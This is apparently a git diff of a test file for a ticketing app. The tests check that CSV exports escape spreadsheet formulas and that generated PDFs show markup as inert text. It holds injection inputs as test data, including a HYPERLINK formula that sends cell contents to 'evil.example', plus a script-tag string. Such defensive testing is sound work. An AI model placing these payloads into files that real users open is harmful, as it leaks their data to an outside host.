@@ -1,61 +1,145 @@
-import { FILE_KINDS } from '@foyer/contract'
-import { serverForTests } from '@foyer/testkit'
-import { buy } from '@foyer/testkit/purchase'
+import { FILE_KINDS, type FileKind, staffApi } from '@foyer/contract'
+import {
+  type BuiltEvent,
+  CARDS,
+  confirmCard,
+  createIntent,
+  orderBody,
+  serverForTests,
+} from '@foyer/testkit'
 import { fillTexts } from '@foyer/testkit/stored-texts'
 import Papa from 'papaparse'
 import { getDocument } from 'pdfjs-dist/legacy/build/pdf.mjs'
-import { describe, expect, test } from 'vitest'
+import { beforeAll, describe, expect, test } from 'vitest'
+import * as z from 'zod/mini'
 import { receiptPdf } from '../src/features/tickets/pdf/receipt-pdf.ts'
 import { ticketsPdf } from '../src/features/tickets/pdf/tickets-pdf.ts'
 import { waiverPdf } from '../src/features/tickets/pdf/waiver-pdf.ts'
 import { COLUMNS } from '../src/privacy/columns.ts'
 import { anOrder, aTenant } from './support/an-order.ts'
+import { holdCartOf } from './support/calls.ts'
 import { member } from './support/staff.ts'
 
 /** What is stored as text stays text in the files that people open: no formula, no link, no script. */
 
 describe('a CSV file', () => {
   const server = serverForTests({ jobs: false, isOneAddressMany: true })
-  const FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Total")'
+  let shop: Awaited<ReturnType<typeof aShop>>
+  beforeAll(async () => {
+    shop = await aShop()
+  })
 
-  test('has no cell that a spreadsheet runs, whichever text of the organizer is a formula', async () => {
+  /** What an organizer has to write into each of its files: an order with a coupon that agreed to news. */
+  async function aShop() {
     const event = await server.build.event({ types: [{ name: 'Adult', dynamicMinor: 1000 }] })
-    await server.build.coupon({})
-    await buy(server.browser(), event)
+    const coupon = await server.build.coupon({})
+    const orderId = await buyWithCoupon(event, coupon.code)
+    const of = [event.tenantId, orderId]
     await server.sql(
       `insert into access_codes (tenant_id, id, event_id, code, label, opens_early)
        values ($1, gen_random_uuid(), $2, 'FANS', 'x', true)`,
       [event.tenantId, event.eventId],
     )
+    await server.sql(
+      `insert into order_consents (tenant_id, order_id, marketing_text, accepted_at)
+       values ($1, $2, 'x', now())`,
+      of,
+    )
+    await server.sql(`insert into order_tags (tenant_id, order_id, tag) values ($1, $2, 'x')`, of)
+    return { event, coupon }
+  }
+
+  async function buyWithCoupon(event: BuiltEvent, code: string): Promise<string> {
+    const buyer = server.browser()
+    await holdCartOf(buyer, event)
+    await buyer.send('POST', '/api/checkout/carts/12345/coupon', { code })
+    const { body: intent } = await createIntent(buyer)
+    await confirmCard(buyer, intent, CARDS.success)
+    const paid = orderBody(event, intent.paymentIntentId)
+    const { status, body } = await buyer.send('POST', '/api/checkout/orders', paid)
+    expect(status).toBe(201)
+    return body.orderId
+  }
+
+  /** Writes it into every text of the organizer, of the codes and of the buyer. */
+  async function fillWith(formula: string, { event, coupon }: typeof shop): Promise<void> {
     const filled = await fillTexts((text, values) => server.sql(text, values), COLUMNS, {
       tenantId: event.tenantId,
-      text: FORMULA,
-      short: '=1+1',
+      text: formula,
+      short: formula.slice(0, 4),
     })
     expect(filled).toEqual(
-      expect.arrayContaining(['events.name', 'ticket_types.name', 'venues.name']),
+      expect.arrayContaining([
+        'access_codes.label',
+        'checkout_rules.name',
+        'coupon_groups.name',
+        'events.name',
+        'order_consents.marketing_text',
+        'ticket_types.name',
+        'venues.name',
+      ]),
     )
+    const { codeId } = coupon
+    await server.sql('update coupon_codes set code = $1 where id = $2', [formula, codeId])
+    await server.sql('update order_tags set tag = $1', [formula])
+    await server.sql('update orders set email = $1', [formula])
     await server.sql(
       `update orders set contact = contact || jsonb_build_object('firstName', $1::text)`,
-      [FORMULA],
+      [formula],
     )
-    const { browser } = await member(server, 'owner')
-    const files = [(await browser.send('POST', '/api/admin/exports/orders', {})).body]
-    for (const kind of FILE_KINDS) {
-      const path = `/api/admin/exports?kind=${kind}`
+  }
+
+  /** A request for each call that answers a file. */
+  function requestsFor({ event, coupon }: typeof shop) {
+    const { groupId, codeId, ruleId } = coupon
+    const exported = (kind: FileKind) => {
       const of = kind === 'events' || kind === 'coupon_codes' ? '' : `&eventId=${event.eventId}`
-      files.push((await browser.send('GET', path + of)).body)
+      return ['GET', `/api/admin/exports?kind=${kind}${of}`] as const
     }
-    for (const { name, text, rows } of files) {
-      expect(rows, name).toBeGreaterThan(0)
-      const cells = Papa.parse<string[]>(text.replace(/^\uFEFF/, '')).data.flat()
-      expect(
-        cells.filter((cell) => /^[=+\-@\t\r\n]/.test(cell)),
-        name,
-      ).toEqual([])
-      expect(text, name).toContain("'=")
+    return {
+      exportFile: FILE_KINDS.map(exported),
+      exportOrders: [['POST', '/api/admin/exports/orders', {}]],
+      exportConsents: [['POST', '/api/admin/exports/marketing']],
+      exportCouponReport: [`group/${groupId}`, `code/${codeId}`, `rule/${ruleId}`].map(
+        (subject) => ['GET', `/api/admin/coupon-reports/${subject}/file`] as const,
+      ),
+      createCouponCodes: [
+        ['POST', '/api/admin/coupon-codes/bulk', { groupId, count: 2, prefix: '' }],
+      ],
+    } as const satisfies Record<string, readonly (readonly [string, string, object?])[]>
+  }
+
+  test('is asked for by each call that answers one', () => {
+    const isFile = (schema: unknown) => {
+      const parts = schema instanceof z.ZodMiniObject ? schema.shape : {}
+      return ['name', 'text', 'rows'].every((part) => part in parts)
     }
+    const calls = Object.entries(staffApi).flatMap(([name, { output }]) => {
+      const parts = output instanceof z.ZodMiniObject ? Object.values(output.shape) : []
+      // What is stored about a person is JSON.
+      return name !== 'exportPerson' && [output, ...parts].some(isFile) ? [name] : []
+    })
+    expect(calls.toSorted()).toEqual(Object.keys(requestsFor(shop)).toSorted())
   })
+
+  test.each(['=HYPERLINK("https://evil.example/?"&A1,"Total")', '+1+1', '-2+3', '@SUM(A1)'])(
+    'has no cell that a spreadsheet runs, whichever text is %s',
+    async (formula) => {
+      await fillWith(formula, shop)
+      const { browser } = await member(server, 'owner')
+      for (const [method, path, body] of Object.values(requestsFor(shop)).flat()) {
+        const answer = await browser.send(method, path, body)
+        const { name, text, rows } = answer.body.file ?? answer.body
+        expect(rows, name).toBeGreaterThan(0)
+        const cells = Papa.parse<string[]>(text.replace(/^\uFEFF/, '')).data.flat()
+        expect(
+          cells.filter((cell) => /^[=+\-@\t\r\n]/.test(cell)),
+          name,
+        ).toEqual([])
+        expect(text, name).toContain(`'${formula.charAt(0)}`)
+      }
+    },
+  )
 })
 
 describe('a PDF', () => {
@@ -78,10 +162,16 @@ describe('a PDF', () => {
   const markedAs = <T>(view: T): T => marked(view) as any
 
   const tenant = markedAs(aTenant())
-  const order = markedAs(anOrder({ tickets: 2 }))
+  const plain = anOrder({ tickets: 2 })
+  /** A rule took something off, under its name. */
+  const rules = [
+    { ruleId: plain.order.id, name: 'Early birds', isOfCoupon: false, discountMinor: 5 },
+  ]
+  const quote = { ...plain.order.quote, discountMinor: 5, rules }
+  const order = markedAs({ ...plain, order: { ...plain.order, quote } })
   test.each([
     ['of the tickets', () => ticketsPdf(tenant, order, 'a4')],
-    ['of the receipt', () => receiptPdf(tenant, order)],
+    ['of the receipt', () => receiptPdf(tenant, order), 'Early birds'],
     [
       'of a waiver',
       () =>
@@ -107,7 +197,7 @@ describe('a PDF', () => {
           }),
         ),
     ],
-  ])('%s shows markup as text, and does nothing when it is opened', async (_, make) => {
+  ])('%s shows markup as text, and does nothing when it is opened', async (_, make, named = '') => {
     const bytes = await make()
     const pdf = await getDocument({ data: new Uint8Array(bytes), verbosity: 0 }).promise
     expect(await pdf.getJSActions()).toBeNull()
@@ -120,6 +210,7 @@ describe('a PDF', () => {
       const { items } = await page.getTextContent()
       letters += items.map((item) => ('str' in item ? item.str : '')).join('')
     }
-    expect(letters.replace(/\s/g, '')).toContain('<script>run()</script>')
+    const shown = `${named}<script>run()</script>`.replace(/\s/g, '')
+    expect(letters.replace(/\s/g, '')).toContain(shown)
   })
 })
